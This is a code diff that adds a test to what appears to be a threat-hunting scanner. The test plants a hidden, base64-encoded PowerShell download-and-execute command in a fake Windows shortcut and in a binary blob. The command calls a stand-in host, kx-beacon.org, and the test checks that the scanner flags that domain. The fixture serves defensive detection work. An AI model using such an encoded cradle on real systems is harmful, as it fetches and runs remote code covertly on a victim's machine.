@@ -25,6 +25,28 @@ const runsOf = (b: Buffer, size: number): string[] => {
   return out;
 };
 
+describe('encoded PowerShell commands in binaries', () => {
+  it('are swept when a shortcut holds one without a dot before its base64 (UTF-16), or an ASCII string names powershell.exe', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'pillbox-enc-'));
+    try {
+      const b64 = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://update-cdn.kx-beacon.org/a.ps1')", 'utf16le').toString('base64');
+      const args = `-w hidden -enc ${b64}`;
+      // A shortcut's header (binary, not UTF-16 text), then its arguments in UTF-16.
+      writeFileSync(join(dir, 'wide.lnk'), Buffer.concat([Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0]), filler(68, 7), Buffer.from(args, 'utf16le'), filler(16, 8)]));
+      writeFileSync(join(dir, 'ascii.bin'), Buffer.concat([filler(40, 9), Buffer.from(`powershell.exe ${args}`, 'latin1'), filler(16, 10)]));
+      writeFileSync(join(dir, 'intel.txt'), 'kx-beacon.org\n');
+      const r = await hunt({ intel: [join(dir, 'intel.txt')], targets: [join(dir, 'wide.lnk'), join(dir, 'ascii.bin')], threads: 1 });
+      expect(r.hits.map((h) => [h.file.slice(dir.length + 1), h.field, h.offset, h.match])).toEqual([
+        ['wide.lnk', 'strings (UTF-16)', 76 + 2 * args.indexOf(b64), 'subdomain'],
+        ['ascii.bin', 'strings', 40 + `powershell.exe ${args}`.indexOf(b64), 'subdomain'],
+      ]);
+      expect(r.hits[0]!.context).toContain('DownloadString');
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});
+
 describe('strings of binaries', () => {
   it('are ASCII and UTF-16LE runs (both alignments) that may hold an indicator, each once with its file offset, however the bytes are cut', () => {
     const b = Buffer.concat([
